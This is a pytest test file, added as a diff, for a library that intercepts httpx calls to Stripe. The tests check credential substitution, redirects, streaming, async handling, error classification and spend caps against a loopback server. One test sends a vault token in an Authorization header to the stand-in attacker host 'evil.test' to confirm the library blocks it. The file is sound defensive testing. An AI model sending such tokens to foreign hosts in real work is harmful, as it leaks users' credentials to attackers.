@@ -1,0 +1,199 @@
+"""The httpx seam: vendors by host, every hop, foreign hosts untouched."""
+
+from __future__ import annotations
+
+import asyncio
+import contextlib
+from typing import TYPE_CHECKING, Any
+
+import httpx
+import pytest
+
+import keyguard
+from keyguard import context, patches
+from keyguard.errors import EndpointNotAllowed, UnpricedCall
+from tests.support_stripe_server import StripeServer
+from tests.test_patches_stripe import Recorder
+
+if TYPE_CHECKING:
+    from collections.abc import Iterator
+    from pathlib import Path
+
+
+@pytest.fixture
+def server() -> Iterator[StripeServer]:
+    """A loopback Stripe that is listed as Stripe's own."""
+    with StripeServer() as found:
+        context.set_vendor_hosts({found.host: "stripe"})
+        yield found
+        context.set_vendor_hosts({})
+
+
+@pytest.fixture
+def recorder() -> Iterator[Recorder]:
+    """Arm the seams with a handler that records."""
+    found = Recorder()
+    patches.arm()
+    context.set_handler(found)
+    yield found
+    context.set_handler(None)
+    patches.disarm()
+
+
+FORM = {"amount": "100", "currency": "usd", "confirm": "true"}
+
+
+def test_a_request_to_a_vendor_is_seen_with_its_form(server: StripeServer, recorder: Recorder) -> None:
+    """Method, path, form, key and credential of a raw call are read; its answer is the caller's as ever."""
+    headers = {"Authorization": "Bearer sk_test_1", "Idempotency-Key": "k1", "Stripe-Account": "acct_1"}
+    response = httpx.post(f"{server.url}/v1/payment_intents?x=1", data=FORM, headers=headers)
+    outgoing = recorder.seen[0]
+
+    assert response.json()["status"] == "succeeded"
+    assert (outgoing.call.vendor, outgoing.call.method, outgoing.call.path) == ("stripe", "POST", "/v1/payment_intents")
+    assert dict(outgoing.call.body or ()) == FORM
+    assert outgoing.call.query == (("x", "1"),)
+    assert (outgoing.call.idempotency_key, outgoing.call.account, outgoing.credential) == ("k1", "acct_1", "sk_test_1")
+    assert recorder.tickets[0].attempts[0].reply is not None
+    assert recorder.tickets[0].attempts[0].reply.body == response.content
+
+
+def test_the_vendors_own_hosts_are_known_without_being_listed(recorder: Recorder) -> None:
+    """api.stripe.com is Stripe's by its plug, through a transport that answers from memory."""
+    with httpx.Client(transport=httpx.MockTransport(lambda _: httpx.Response(200, json={}))) as client:
+        client.get("https://api.stripe.com/v1/customers")
+        client.get("https://API.Stripe.com:443/v1/customers")
+        client.get("https://example.com/v1/customers")
+
+    assert [outgoing.call.host for outgoing in recorder.seen] == ["api.stripe.com", "api.stripe.com"]
+
+
+def test_every_redirect_hop_is_a_call_of_its_own(server: StripeServer, recorder: Recorder) -> None:
+    """A followed redirect is decided again, with its own path."""
+    server.location = "/v1/charges"
+    httpx.get(f"{server.url}/v1/customers", follow_redirects=True)
+
+    assert [outgoing.call.path for outgoing in recorder.seen] == ["/v1/customers", "/v1/charges"]
+
+
+def test_a_stream_stays_unread(server: StripeServer, recorder: Recorder) -> None:
+    """A streamed read is the caller's to consume."""
+    with httpx.stream("GET", f"{server.url}/v1/customers") as response:
+        assert not response.is_stream_consumed
+        content = response.read()
+
+    assert b"list" in content
+    assert len(recorder.seen) == 1
+
+
+def test_a_client_made_before_arming_is_guarded(server: StripeServer) -> None:
+    """The seam is on the class, so existing clients are covered."""
+    with httpx.Client() as client:
+        recorder = Recorder()
+        patches.arm()
+        context.set_handler(recorder)
+        client.get(f"{server.url}/v1/customers")
+        context.set_handler(None)
+        patches.disarm()
+
+    assert len(recorder.seen) == 1
+
+
+def test_a_body_that_is_a_generator_is_left_to_the_transport(server: StripeServer, recorder: Recorder) -> None:
+    """Nothing is consumed that can be read once only; JSON has no pairs; an empty body has none either."""
+    httpx.post(f"{server.url}/v1/payment_intents", content=iter([b"amount=100&confirm=true"]))
+    httpx.post(f"{server.url}/v1/payment_intents", json={"amount": 1})
+    httpx.post(f"{server.url}/v1/payment_intents/pi_1/cancel")
+
+    assert [outgoing.call.body for outgoing in recorder.seen] == [None, None, ()]
+    assert len(server.requests) == 3
+
+
+def test_errors_are_classified(server: StripeServer, recorder: Recorder) -> None:
+    """A refused connection is proven unsent, a dropped answer is not."""
+    context.set_vendor_hosts({server.host: "stripe", "127.0.0.1:9": "stripe"})
+    server.drop_answers = True
+    with pytest.raises(httpx.ConnectError):
+        httpx.get("http://127.0.0.1:9/v1/customers")
+    with pytest.raises(httpx.RemoteProtocolError):
+        httpx.post(f"{server.url}/v1/payment_intents", data=FORM)
+
+    assert [ticket.attempts[0].unsent for ticket in recorder.tickets] == [True, False]
+
+
+def test_the_secret_is_on_the_wire_and_not_on_the_request(server: StripeServer, recorder: Recorder) -> None:
+    """The request object that the caller keeps has its token back after the send."""
+    recorder.secret = "sk_test_real"  # noqa: S105 -- a test's secret
+    response = httpx.get(f"{server.url}/v1/customers", headers={"Authorization": "Bearer vault_key_x"})
+
+    assert server.requests[0][2]["authorization"] == "Bearer sk_test_real"
+    assert response.request.headers["authorization"] == "Bearer vault_key_x"
+
+
+def test_a_vault_token_to_a_foreign_host_is_refused(recorder: Recorder) -> None:
+    """No vendor claims the host: refused before anything is sent, and the message does not repeat the token."""
+    sent: list[Any] = []
+    transport = httpx.MockTransport(lambda request: sent.append(request) or httpx.Response(200))  # type: ignore[func-returns-value]
+    with httpx.Client(transport=transport) as client, pytest.raises(EndpointNotAllowed, match="evil.test") as error:
+        client.get("https://evil.test/", headers={"Authorization": "Bearer vault_key_abc_def"})
+
+    assert sent == []
+    assert "abc_def" not in str(error.value)
+
+
+def test_prefects_own_clients_are_not_guarded(recorder: Recorder) -> None:
+    """Its API client passes even to a host that is listed by hand; never to a vendor's own."""
+    own = type("PrefectHttpxSyncClient", (httpx.Client,), {"__module__": "prefect.client.base"})
+    context.set_vendor_hosts({"127.0.0.1:4200": "stripe"})
+    with own(transport=httpx.MockTransport(lambda _: httpx.Response(200))) as client:
+        client.get("http://127.0.0.1:4200/api/health")
+        client.get("https://api.stripe.com/v1/customers")
+    context.set_vendor_hosts({})
+
+    assert [outgoing.call.host for outgoing in recorder.seen] == ["api.stripe.com"]
+
+
+def test_ask_reads_with_the_same_credentials(server: StripeServer, recorder: Recorder) -> None:
+    """A quote read of a raw call carries its authorization, or the secret."""
+    httpx.post(f"{server.url}/v1/payment_intents", data=FORM, headers={"Authorization": "Bearer sk_test_1"})
+    ask = recorder.seen[0].ask
+    assert ask is not None
+    replies = [ask("/v1/payment_intents/pi_1", None), ask("/v1/payment_intents/pi_1", "sk_test_real")]
+    sent = [headers["authorization"] for _, _, headers in server.requests[1:]]
+
+    assert [reply.status for reply in replies] == [200, 200]
+    assert sent == ["Bearer sk_test_1", "Bearer sk_test_real"]
+    assert len(recorder.seen) == 1
+
+
+def test_the_async_client_passes_the_same_way(server: StripeServer, recorder: Recorder) -> None:
+    """AsyncClient's requests are handed over, awaited, with reply and errors classified."""
+
+    async def main() -> None:
+        async with httpx.AsyncClient() as client:
+            await client.post(f"{server.url}/v1/payment_intents", data=FORM)
+            server.drop_answers = True
+            with contextlib.suppress(httpx.RemoteProtocolError):
+                await client.post(f"{server.url}/v1/payment_intents", data=FORM)
+
+    asyncio.run(main())
+
+    assert [attempt.reply is not None for ticket in recorder.tickets for attempt in ticket.attempts] == [True, False]
+
+
+def test_raw_calls_are_decided_like_the_sdks(server: StripeServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A raw POST draws on the cap and is settled from its answer; an unknown write is refused; a foreign host is free."""
+    monkeypatch.setenv("KEYGUARD_VENDOR_HOSTS", f"stripe={server.host}")
+    with keyguard.run("run-1"):
+        installed = keyguard.install(f"sqlite:///{tmp_path}/l.db", run_usd_cap=2)
+        httpx.post(f"{server.url}/v1/payment_intents", data=FORM)
+        httpx.post(f"{server.url}/v1/payment_intents", data=FORM)
+        with pytest.raises(keyguard.SpendCapExceeded):
+            httpx.post(f"{server.url}/v1/payment_intents", data=FORM)
+        with pytest.raises(UnpricedCall):
+            httpx.post(f"{server.url}/v1/payouts", data=FORM)
+        usage = installed.usage()
+    keyguard.uninstall()
+
+    assert server.total == 200
+    assert (usage.spent, usage.held) == (2_000_000, 0)
